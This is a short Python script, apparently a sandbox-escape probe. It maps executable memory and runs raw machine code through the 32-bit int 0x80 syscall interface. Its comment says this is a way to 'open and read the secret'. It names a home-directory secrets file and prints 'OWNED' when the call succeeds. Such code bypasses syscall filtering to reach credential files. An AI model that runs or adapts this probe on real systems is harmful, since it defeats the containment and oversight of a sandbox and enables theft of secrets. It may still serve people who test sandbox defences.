# proc: the 32-bit way into the kernel, whose numbers mean other calls: open and read the secret
import ctypes,mmap
def machine(code):
    m=mmap.mmap(-1,4096,prot=7); m.write(code)
    return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()

path=b'@HOME@/.secrets/app_secret.txt\0'; low=mmap.mmap(-1,4096,flags=0x62,prot=7)
# mov eax,20 (getpid of 32 bits, writev of 64); int 0x80; ret
if machine(b'\xb8\x14\0\0\0\xcd\x80\xc3')>0: print('OWNED:raw_int80')
